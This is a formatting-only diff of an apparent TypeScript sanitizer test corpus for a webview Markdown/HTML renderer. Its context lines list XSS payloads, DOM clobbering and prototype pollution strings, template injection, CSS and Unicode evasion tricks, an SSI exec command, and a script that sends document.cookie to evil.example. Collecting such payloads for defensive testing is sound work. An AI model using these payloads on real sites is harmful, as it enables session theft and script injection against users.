@@ -116,7 +116,8 @@ function everyCharacter(text: string, write: (code: number) => string): string {
 /** Ways to hide a scheme (OWASP: "embedded tab", "embedded newline", "decimal references without semicolons"…). */
 const disguises: readonly ((address: string) => string)[] = [
   (address) => address,
-  (address) => address.replaceAll(/[a-z](?=[^a-z]|[a-z])/g, (letter, at: number) => (at % 2 ? letter.toUpperCase() : letter)),
+  (address) =>
+    address.replaceAll(/[a-z](?=[^a-z]|[a-z])/g, (letter, at: number) => (at % 2 ? letter.toUpperCase() : letter)),
   (address) => address.replace(/^(...)/, '$1\t'),
   (address) => address.replace(/^(...)/, '$1\n'),
   (address) => address.replace(/^(...)/, '$1\r\n'),
@@ -299,14 +300,23 @@ const styles = [
 
 /** Names that would take the place of the page's own (PortSwigger and html5sec: "DOM clobbering"; prototype pollution). */
 const clobbering = [
-  ...['root', 'body', 'acquireVsCodeApi', 'location', 'head', 'forms', 'getElementById', 'cookie', 'onload', 'document'].flatMap(
-    (name) => [
-      `<a id=${name}></a>`,
-      `<img name=${name}>`,
-      `<form id=${name}><input name=attributes><input name=parentNode></form>`,
-      `<iframe name=${name} srcdoc=x></iframe>`,
-    ],
-  ),
+  ...[
+    'root',
+    'body',
+    'acquireVsCodeApi',
+    'location',
+    'head',
+    'forms',
+    'getElementById',
+    'cookie',
+    'onload',
+    'document',
+  ].flatMap((name) => [
+    `<a id=${name}></a>`,
+    `<img name=${name}>`,
+    `<form id=${name}><input name=attributes><input name=parentNode></form>`,
+    `<iframe name=${name} srcdoc=x></iframe>`,
+  ]),
   ...['__proto__', 'constructor', 'toString', 'hasOwnProperty', 'prototype', 'valueOf'].flatMap((name) => [
     `[${name}]`,
     `[a][${name}]\n\n[${name}]: javascript:alert(1)`,
@@ -316,7 +326,7 @@ const clobbering = [
     `[^${name}]\n\n[^${name}]: x`,
   ]),
   "{{constructor.constructor('alert(1)')()}}",
-  "${alert(1)} #{alert(1)} <%= alert(1) %> {{alert(1)}} [[alert(1)]]",
+  '${alert(1)} #{alert(1)} <%= alert(1) %> {{alert(1)}} [[alert(1)]]',
   '{"__proto__":{"polluted":1}}',
 ];
 
@@ -361,7 +371,7 @@ const characters = [
   '\u2028alert(1)\u2029',
   '\u0085\u000B\u000C\u001C',
   `Z${'\u0301\u0322\u0337'.repeat(200)}`,
-  `${'\u0489'.repeat(500)}`,
+  '\u0489'.repeat(500),
   '\u{E0001}\u{E0041}\u{E007F}',
   '＜script＞alert(1)＜/script＞',
   '\u003cscript\u003ealert(1)\u003c/script\u003e',
@@ -389,9 +399,9 @@ const evasion = [
   '<ul><li>x<style>li {list-style-image: url("javascript:alert(1)");}</style>',
   '<table><td background="javascript:alert(1)">',
   '<div style="background-image: url(javascript:alert(1))">',
-  "<div style=\"background-image:\\0075\\0072\\006C\\0028'\\006a\\0061'\\0029\">",
+  '<div style="background-image:\\0075\\0072\\006C\\0028\'\\006a\\0061\'\\0029">',
   '<div style="width: expression(alert(1));">',
-  "<img style=\"xss:expr/*x*/ession(alert(1))\">",
+  '<img style="xss:expr/*x*/ession(alert(1))">',
   '<!--#exec cmd="/bin/echo x"-->',
   '<? echo("<script>alert(1)</script>"); ?>',
   '<script>document.location="https://evil.example/?"+document.cookie</script>',
